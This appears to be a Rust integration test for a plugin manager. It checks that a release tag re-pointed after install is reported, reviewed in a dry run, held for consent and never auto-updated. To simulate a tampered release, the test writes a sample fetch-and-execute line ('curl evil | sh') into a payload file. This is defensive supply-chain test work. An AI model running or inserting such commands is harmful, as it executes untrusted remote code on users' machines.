//! A tag re-pointed to another commit after install is not an ordinary update: `outdated`
//! reports it with its code, `update --dry-run` shows the old and the new commit, `update`
//! asks consent for it (refused without a terminal and without `--yes`), and `autoupdate`
//! never takes it.

use std::path::Path;

use crate::support::git::{Repo, git};
use crate::support::*;

const ID: &str = "dev.example.pinned";

fn plugins(home: &Path, args: &[&str]) -> Ran {
    let mut ran = Plugins::new()
        .args(args)
        .arg("--home")
        .arg(home)
        .env("COLUMNS", "300")
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .run();
    ran.redact("[HOME]", home);
    ran
}

#[test]
fn a_moved_tag_is_reported_asks_consent_and_is_never_autoupdated() {
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path().canonicalize().unwrap();
    let repo = Repo::init(&t.join("repo"));
    repo.file("aoe-plugin.toml", &static_aoe("1.0.0"));
    let old = repo.commit("one");
    repo.tag("v1.0.0");
    let home = t.join("home");
    plugins(&home, &["install", &repo.url(), "--ref", "v1.0.0", "--yes"]).success();
    let lock = std::fs::read(home.join("plugins.lock")).unwrap();

    // The tag is moved to a new commit; no newer release exists.
    repo.file("aoe-plugin.toml", &static_aoe("1.0.0"));
    repo.file("payload.sh", "curl evil | sh\n");
    let new = repo.commit("moved");
    git(&repo.dir, &["tag", "-f", "v1.0.0"]);

    let mut ran = plugins(&home, &["outdated"]);
    ran.redact("[OLD]", &old[..10])
        .redact("[NEW]", &new[..10])
        .redact("[OLDLONG]", &old[..12])
        .redact("[NEWLONG]", &new[..12]);
    ran.code(1).stdout_eq(snapbox::str![[r#"
dev.example.pinned               v1.0.0 @ [OLD]          tag v1.0.0 moved to [NEW]
  error[plugins::update::tag_moved]: dev.example.pinned: the tag v1.0.0 was moved: it named [OLDLONG] when installed and names [NEWLONG] now
    help: a release tag should never move: find out why before taking it; `plugins update dev.example.pinned --dry-run` reviews the new commit, `plugins update dev.example.pinned` asks before installing it

"#]]);
    let json = plugins(&home, &["outdated", "--json"]);
    let doc: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_matches_output_schema("outdated.json", &doc);
    assert_eq!(doc["plugins"][0]["status"], "repointed", "{doc}");
    assert_eq!(
        doc["plugins"][0]["problems"][0]["code"], "plugins::update::tag_moved",
        "{doc}"
    );

    // The dry run names both commits.
    let dry = plugins(&home, &["update", ID, "--dry-run", "--json"]);
    dry.success();
    let doc: serde_json::Value = serde_json::from_str(&dry.stdout).unwrap();
    let row = &doc["plugins"][0];
    assert_eq!(
        (row["from_commit"].as_str(), row["commit"].as_str()),
        (Some(old.as_str()), Some(new.as_str())),
        "{doc}"
    );

    // Without a terminal and without --yes: refused, nothing changes, though the plugin
    // asks for no capability and nothing else would have asked.
    let refused = plugins(&home, &["update", ID]);
    assert_ne!(refused.code, 0, "{}{}", refused.stdout, refused.stderr);
    assert!(
        refused.stderr.contains(&format!(
            "asked again:  the tag v1.0.0 was moved: it named {} when installed and names {} now",
            &old[..12],
            &new[..12]
        )),
        "the consent says why: {}",
        refused.stderr
    );
    assert_eq!(std::fs::read(home.join("plugins.lock")).unwrap(), lock);

    // A sweep never takes it: it needs approval (exit 1, for cron).
    std::fs::write(
        home.join("plugins.toml"),
        format!("[update_policy.\"{ID}\"]\ntrack = \"v1.0.0\"\nwhen = \"always\"\n"),
    )
    .unwrap();
    let sweep = plugins(&home, &["autoupdate", "--force", "--json"]);
    sweep.code(1);
    let doc: serde_json::Value = serde_json::from_str(&sweep.stdout).unwrap();
    assert_eq!(doc["needs_approval"], serde_json::json!([ID]), "{doc}");
    assert_eq!(std::fs::read(home.join("plugins.lock")).unwrap(), lock);

    // A person who looked grants it.
    plugins(&home, &["update", ID, "--yes"]).success();
    assert_eq!(locked(&home, ID, "resolved_commit"), new);
}
